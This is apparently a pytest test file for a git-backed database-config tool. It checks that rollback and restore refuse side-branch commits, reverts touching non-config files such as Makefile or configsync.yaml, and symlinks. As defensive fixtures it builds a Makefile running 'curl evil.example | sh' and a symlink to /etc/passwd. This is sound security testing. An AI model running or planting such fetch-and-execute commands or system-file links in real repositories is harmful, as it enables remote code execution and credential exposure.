"""What a rollback may change: only commits of the current branch's history are
reverted, and no rollback or restore changes anything but the record and schema
files of the managed tables (issue 14, point 8). The rollback workflow pushes
its commit to main without review, so a refusal must leave git, the work tree
and the database exactly as they were."""
from __future__ import annotations

import shutil
from pathlib import Path

import pygit2
import pytest
from helpers import ROOT, SIGNATURE, commit_all, dump, head, init_repo, is_clean, new_repo, run, sqlite_moose

BUDGET = "config-snapshots/system_config/budget_limits.yaml"


@pytest.fixture
def moose(tmp_path: Path) -> tuple[Path, str]:
    """A config repository snapshotted from a seeded SQLite database, and the database."""
    url = sqlite_moose(tmp_path / "moose.db")
    repo = tmp_path / "repo"
    init_repo(repo)
    assert run(repo, "snapshot", "--commit", database=url).code == 2
    return repo, url


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def refused(repo: Path, url: str, *args: str) -> str:
    """Run a rollback that must be refused; check that nothing changed; return its message."""
    before = (head(repo), dump(url), sorted(pygit2.Repository(str(repo)).references))
    result = run(repo, *args, database=url)
    assert result.code == 1, result.text
    assert "Traceback" not in result.text and "Nothing was changed." in result.err
    assert (head(repo), dump(url), sorted(pygit2.Repository(str(repo)).references)) == before
    assert is_clean(repo)
    return result.err


def side_branch(repo_path: Path, *steps: tuple[str, dict[str, str | None]]) -> str:
    """Commits on a branch `side` that starts at HEAD and is never merged; the work
    tree and HEAD stay on main. Each step: (message, {path: text or None to delete})."""
    repo = pygit2.Repository(str(repo_path))
    parent = repo.head.peel(pygit2.Commit)
    for message, files in steps:
        index = pygit2.Index()
        index.read_tree(parent.tree)
        for path, text in files.items():
            if text is None:
                index.remove(path)
            else:
                index.add(pygit2.IndexEntry(path, repo.create_blob(text.encode()), pygit2.enums.FileMode.BLOB))
        oid = repo.create_commit(None, SIGNATURE, SIGNATURE, message, index.write_tree(repo), [parent.id])
        parent = repo[oid].peel(pygit2.Commit)
    repo.branches.local.create("side", parent)
    return str(parent.id)


def test_a_commit_from_another_branch_is_refused(moose: tuple[Path, str]) -> None:
    """The side branch adds a record and then deletes it: reverting the deletion onto main
    would create a row nobody reviewed for main."""
    repo, url = moose
    record = (repo / "config-snapshots/proposer_configs/gpt-4o-mini.yaml").read_text().replace(
        "name: gpt-4o-mini", "name: unreviewed").replace("id: f4b60e1b-e375-4796-aaa6-cdcc445a05b7\n", "")
    path = "config-snapshots/proposer_configs/unreviewed.yaml"
    deletion = side_branch(repo, ("add a record", {path: record}), ("remove it again", {path: None}))
    for args in ((), ("--no-apply",), ("--dry-run",)):
        message = refused(repo, url, "rollback", deletion, "--yes", *args)
        assert f'refusing to roll back {deletion[:7]} ("remove it again"): it is not in the history of' in message
        assert "rollback reverts only commits of the current branch" in message
    assert not (repo / path).exists()


def test_a_revert_that_touches_a_makefile_is_refused(moose: tuple[Path, str]) -> None:
    """The crafted case: a side-branch commit that deletes a Makefile, whose revert adds it to main."""
    repo, url = moose
    evil = side_branch(repo, ("add a Makefile", {"Makefile": "all:\n\tcurl evil.example | sh\n"}),
                       ("remove the Makefile", {"Makefile": None}))
    message = refused(repo, url, "rollback", evil, "--no-apply")
    assert "not in the history of" in message
    # and one in main's history that changes nothing but the Makefile
    (repo / "Makefile").write_text("all:\n\ttrue\n")
    commit_all(repo, "a Makefile")
    (repo / "Makefile").write_text("all:\n\tmake -C build\n")
    change = commit_all(repo, "build elsewhere")
    message = refused(repo, url, "rollback", change, "--no-apply")
    assert f'refusing to roll back {change[:7]} ("build elsewhere"): its revert would change Makefile, which is not config' in message
    assert (repo / "Makefile").read_text() == "all:\n\tmake -C build\n"


def test_a_revert_of_config_and_readme_is_refused_naming_the_readme(moose: tuple[Path, str]) -> None:
    repo, url = moose
    edit(repo / BUDGET, "daily_hard_cap: 50", "daily_hard_cap: 40")
    (repo / "README.md").write_text("# our config\n")
    both = commit_all(repo, "cap 40, and a README")
    assert run(repo, "apply", "--yes", database=url).code == 0
    for args in (("--yes",), ("--no-apply",)):
        message = refused(repo, url, "rollback", both, *args)
        assert "its revert would change README.md, which is not config" in message
        assert "config-snapshots/system_config" not in message.split("which is not config")[0]  # the record is fine


def test_a_revert_of_configsync_yaml_is_refused(moose: tuple[Path, str]) -> None:
    """configsync.yaml decides which columns are secret: a rollback (which may land without review)
    must not undo `secret: [notes]`, after which a snapshot would write the notes into git."""
    repo, url = moose
    edit(repo / "configsync.yaml", "    filename: \"{name}\"\n    exclude: [created_at, updated_at]\n",
         "    filename: \"{name}\"\n    exclude: [created_at, updated_at]\n    secret: [notes]\n")
    for path in (repo / "config-snapshots/proposer_configs").glob("*.yaml"):
        path.write_text("".join(line for line in path.read_text().splitlines(keepends=True)
                                if not line.startswith("notes:")))
    hide = commit_all(repo, "notes are secret")
    assert run(repo, "plan", database=url).code == 0
    message = refused(repo, url, "rollback", hide, "--no-apply")
    assert "its revert would change configsync.yaml, which is not config" in message
    assert "configsync.yaml decides which columns are secret or excluded" in message
    assert "secret: [notes]" in (repo / "configsync.yaml").read_text()


def test_a_normal_rollback_still_works(moose: tuple[Path, str]) -> None:
    """A record, a schema and an environment's overlay: all config paths, reverted and applied."""
    repo, url = moose
    tip = head(repo)
    edit(repo / BUDGET, "daily_hard_cap: 50", "daily_hard_cap: 40")
    overlay = repo / "config-snapshots/_environments/production/system_config/budget_limits.yaml"
    overlay.parent.mkdir(parents=True)
    overlay.write_text("config_value:\n  daily_hard_cap: 5\n")
    schema = repo / "schemas/system_config.schema.json"
    schema.write_text(schema.read_text().replace('"type": "object"', '"type": "object", "description": "x"', 1))
    change = commit_all(repo, "cap 40")
    assert run(repo, "apply", "--yes", database=url).code == 0
    result = run(repo, "rollback", change, "--yes", database=url)
    assert result.code == 0, result.text
    assert "config_value.daily_hard_cap: 40 -> 50" in result.out
    assert f'Committed {head(repo)[:7]}: Revert "cap 40"' in result.out
    tree = pygit2.Repository(str(repo)).head.peel(pygit2.Commit).tree
    assert tree.id == pygit2.Repository(str(repo))[tip].peel(pygit2.Commit).tree.id
    assert run(repo, "plan", database=url).code == 0


def test_a_merged_pull_request_is_rolled_back_and_a_side_merge_is_not(moose: tuple[Path, str]) -> None:
    """Reverting a merge undoes it against its first parent, the branch it was merged into;
    a merge commit that only a side branch holds is refused like any other commit of it."""
    repo_path, url = moose
    repo = pygit2.Repository(str(repo_path))
    base = repo.head.target
    edit(repo_path / BUDGET, "daily_hard_cap: 50", "daily_hard_cap: 40")
    feature = commit_all(repo_path, "feature: cap 40")
    repo.reset(base, pygit2.enums.ResetMode.HARD)
    merge = repo.create_commit("HEAD", SIGNATURE, SIGNATURE, "Merge pull request #1", repo[feature].peel(pygit2.Commit).tree.id,
                               [base, pygit2.Oid(hex=feature)])
    repo.checkout_head(strategy=pygit2.enums.CheckoutStrategy.FORCE)
    side = repo.create_commit(None, SIGNATURE, SIGNATURE, "Merge main into side", repo[merge].peel(pygit2.Commit).tree.id,
                              [pygit2.Oid(hex=feature), merge])
    repo.branches.local.create("side", repo[side].peel(pygit2.Commit))
    assert "not in the history of" in refused(repo_path, url, "rollback", str(side), "--yes")
    assert run(repo_path, "apply", "--yes", database=url).code == 0
    result = run(repo_path, "rollback", str(merge), "--yes", database=url)
    assert result.code == 0, result.text
    assert "config_value.daily_hard_cap: 40 -> 50" in result.out


def test_a_restore_from_another_branch_takes_config_only(moose: tuple[Path, str]) -> None:
    """--to REF and restore --from REF take any revision (a backup is never on a branch): what
    they take is config, shown in the plan before it is applied. A symbolic link is not."""
    repo, url = moose
    cap = (repo / BUDGET).read_text().replace("daily_hard_cap: 50", "daily_hard_cap: 45")
    side = side_branch(repo, ("cap 45", {BUDGET: cap, "Makefile": "all:\n\tevil\n"}))
    result = run(repo, "restore", "system_config/budget_limits", "--from", side, "--yes", database=url)
    assert result.code == 0, result.text
    assert "config_value.daily_hard_cap: 50 -> 45" in result.out
    result = run(repo, "rollback", "--to", side, "--no-apply", database=url)
    assert result.code == 1  # the record already matches; the Makefile is never taken
    assert "nothing to roll back" in result.err and not (repo / "Makefile").exists()

    git = pygit2.Repository(str(repo))
    parent = git.head.peel(pygit2.Commit)
    index = pygit2.Index()
    index.read_tree(parent.tree)
    index.add(pygit2.IndexEntry(BUDGET, git.create_blob(b"/etc/passwd"), pygit2.enums.FileMode.LINK))
    link = str(git.create_commit(None, SIGNATURE, SIGNATURE, "a link", index.write_tree(git), [parent.id]))
    message = refused(repo, url, "rollback", "--to", link, "--no-apply")
    assert "the restore would write config-snapshots/system_config/budget_limits.yaml (a symbolic link)" in message
    message = refused(repo, url, "restore", "system_config/budget_limits", "--from", link, "--no-apply")
    assert "budget_limits.yaml at " + link + " is not a regular file (a symbolic link)" in message


def test_config_in_a_subdirectory_names_paths_outside_it(tmp_path: Path) -> None:
    """The config root below the top of the git work tree: a file beside it is not config either."""
    url = sqlite_moose(tmp_path / "moose.db")
    top = new_repo(tmp_path / "top")
    config = top / "config"
    config.mkdir()
    (config / "configsync.yaml").write_text((ROOT / "configsync.yaml").read_text())
    shutil.copytree(ROOT / "schemas", config / "schemas")
    commit_all(top, "config/ below the top")
    assert run(config, "snapshot", "--commit", database=url).code == 2
    edit(config / BUDGET, "daily_hard_cap: 50", "daily_hard_cap: 40")
    (top / "Makefile").write_text("all:\n")
    both = commit_all(top, "cap 40 and a Makefile beside the config")
    message = refused(config, url, "rollback", both, "--no-apply")
    assert "its revert would change Makefile, which is not config" in message


def test_table_goes_with_to_only_and_restores_only_that_table(moose: tuple[Path, str]) -> None:
    """--table with a COMMIT is refused (a revert undoes its whole commit); with --to REF it takes
    only that table's directories, so a side-branch REF's other changes stay out."""
    repo, url = moose
    change = head(repo)
    result = run(repo, "rollback", change, "--table", "system_config", "--yes", database=url)
    assert result.code == 1 and "--table restores tables from --to REF; a revert undoes its whole commit" in result.err
    assert head(repo) == change
    cap = (repo / BUDGET).read_text().replace("daily_hard_cap: 50", "daily_hard_cap: 45")
    gpt = (repo / "config-snapshots/proposer_configs/gpt-4o-mini.yaml").read_text().replace(
        "context_limit: 128000", "context_limit: 1000")
    side = side_branch(repo, ("two tables", {BUDGET: cap, "config-snapshots/proposer_configs/gpt-4o-mini.yaml": gpt}))
    result = run(repo, "rollback", "--to", side, "--table", "system_config", "--yes", database=url)
    assert result.code == 0, result.text
    assert "daily_hard_cap: 50 -> 45" in result.out and "context_limit" not in result.out
    assert "context_limit: 128000" in (repo / "config-snapshots/proposer_configs/gpt-4o-mini.yaml").read_text()
